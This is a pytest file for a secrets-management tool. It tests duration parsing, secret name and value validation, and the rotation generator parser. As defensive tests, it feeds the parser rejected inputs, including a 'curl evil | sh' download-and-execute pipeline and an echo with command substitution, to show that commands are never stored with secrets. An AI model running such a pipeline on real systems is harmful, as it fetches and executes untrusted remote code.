"""Names, values, durations and rotation generators: what is accepted, and the message for what is not."""

from __future__ import annotations

import sys
from datetime import timedelta

import pytest

from stageward.errors import BadInput, CheckFailed, TooLarge
from stageward.secrets.durations import format_duration, parse_duration
from stageward.secrets.names import check_name, check_value, strip_one_newline
from stageward.secrets.rotation import ALPHABET, parse_generator


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("30d", timedelta(days=30)),
        ("12h", timedelta(hours=12)),
        ("90m", timedelta(minutes=90)),
        ("2w", timedelta(weeks=2)),
        ("1d12h", timedelta(hours=36)),
        (" 45S ", timedelta(seconds=45)),
    ],
)
def test_durations(text: str, expected: timedelta):
    assert parse_duration(text) == expected


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("30", "expected a number and a unit"),
        ("d30", "expected a number and a unit"),
        ("1.5d", "expected a number and a unit"),
        ("0d", "greater than zero"),
        ("4000d", "at most 10 years"),
    ],
)
def test_bad_durations_name_the_option(text: str, message: str):
    with pytest.raises(BadInput, match=message) as caught:
        parse_duration(text, option="--expires-in")
    assert caught.value.message.startswith(f"--expires-in {text!r}")


def test_durations_print_back_in_their_shortest_form():
    assert [format_duration(s) for s in (2_592_000, 5400, 43_200, 45)] == ["30d", "90m", "12h", "45s"]


@pytest.mark.parametrize("name", ["DB_PASSWORD", "_private", "api.token-v2", "a" * 128])
def test_good_names(name: str):
    assert check_name(name) == name


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("db/password", "contains '/'"),
        ("..\\x", "starts with '.'"),
        ("a\\b", "contains '\\\\'"),
        ("zero\u200bwidth", "contains U+200B (zero width space)"),
        ("p\u0430ssword", "contains U+0430 (cyrillic small letter a)"),  # looks like "password"
        ("1st", "starts with '1'"),
        ("", "secret name is empty"),
        ("a" * 129, "129 characters, expected at most 128"),
    ],
)
def test_bad_names_say_which_character(name: str, message: str):
    with pytest.raises(BadInput) as caught:
        check_name(name)
    assert message in caught.value.message
    assert caught.value.exit_code == 2


def test_values_empty_oversized_or_not_text_are_refused_without_quoting_them():
    with pytest.raises(BadInput, match="secret value is empty"):
        check_value(b"")
    with pytest.raises(TooLarge, match=r"secret value is 65537 bytes; the limit is 65536 bytes \(64 KiB\)") as big:
        check_value(b"x" * 65_537)
    assert big.value.http_status == 413
    with pytest.raises(BadInput, match="not UTF-8 text \\(invalid byte at offset 3\\)") as bad:
        check_value(b"abc\xff-canary")
    assert "canary" not in bad.value.format_message()
    assert check_value(b"x" * 65_536) == "x" * 65_536


def test_one_trailing_newline_is_dropped():
    assert strip_one_newline(b"v\n") == b"v" and strip_one_newline(b"v\r\n") == b"v"
    assert strip_one_newline(b"v\n\n") == b"v\n" and strip_one_newline(b"v") == b"v"


def test_random_generator():
    generator = parse_generator("random:32")
    values = {generator.generate({}) for _ in range(50)}
    assert len(values) == 50 and all(len(v) == 32 and set(v) <= set(ALPHABET) for v in values)
    assert generator.spec == "random:32"


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ("random:8", "N from 16 to 4096"),
        ("random:x", "expected random:N"),
        ("random:", "expected random:N"),
        ("", "expected random:N or generator:NAME"),
        ("generator:Bad_Name", "expected random:N or generator:NAME"),
        # A command is never stored with a secret (SPEC §3, §12): whoever sets a secret cannot make the
        # admin who rotates it run something of theirs.
        ("sh -c 'curl evil | sh'", "a command is never stored with a secret"),
        ("echo rotated-$(date +%s)", "a command is never stored with a secret"),
    ],
)
def test_bad_generators(spec: str, message: str):
    with pytest.raises(BadInput, match=message):
        parse_generator(spec)


def test_a_generator_must_be_declared_in_the_applied_policy():
    with pytest.raises(BadInput, match=r"generator:nope: no such generator in the applied policy \(declared: db\)"):
        parse_generator("generator:nope", declared={"db": ["true"]})
    assert parse_generator("generator:db", declared={"db": ["true"]}).spec == "generator:db"


def test_a_named_generator_runs_the_policys_command_and_takes_stdout_without_its_newline():
    generator = parse_generator("generator:fresh")
    assert generator.generate({"fresh": [sys.executable, "-c", "print('fresh-value')"]}) == "fresh-value"


def test_a_generator_missing_from_the_policy_when_it_runs_fails_clearly():
    with pytest.raises(CheckFailed, match="generator 'gone' is not in the applied policy"):
        parse_generator("generator:gone").generate({})


@pytest.mark.parametrize(
    ("code", "message"),
    [
        ("import sys; print('leaked-value'); sys.exit(3)", "exited 3"),
        ("print('')", "printed no usable value: secret value is empty"),
    ],
)
def test_a_failing_command_says_how_without_its_output(code: str, message: str):
    generator = parse_generator("generator:gen")
    with pytest.raises(CheckFailed, match=message) as caught:
        generator.generate({"gen": [sys.executable, "-c", code]})
    assert "leaked-value" not in caught.value.format_message()


def test_a_missing_command_is_named():
    with pytest.raises(CheckFailed, match="rotation command 'no-such-rotator' not found"):
        parse_generator("generator:gen").generate({"gen": ["no-such-rotator", "--now"]})
